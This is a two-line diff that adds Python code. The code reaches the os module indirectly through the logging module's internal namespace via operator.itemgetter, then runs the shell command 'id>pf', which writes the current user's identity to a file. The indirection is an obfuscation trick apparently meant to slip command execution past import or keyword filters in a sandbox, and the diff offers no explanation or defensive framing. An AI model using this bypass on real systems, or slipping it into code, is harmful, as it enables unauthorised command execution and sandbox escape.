@@ -1,0 +1,2 @@
+import operator, logging
+operator.itemgetter("os")(vars(logging)).system("id>pf")
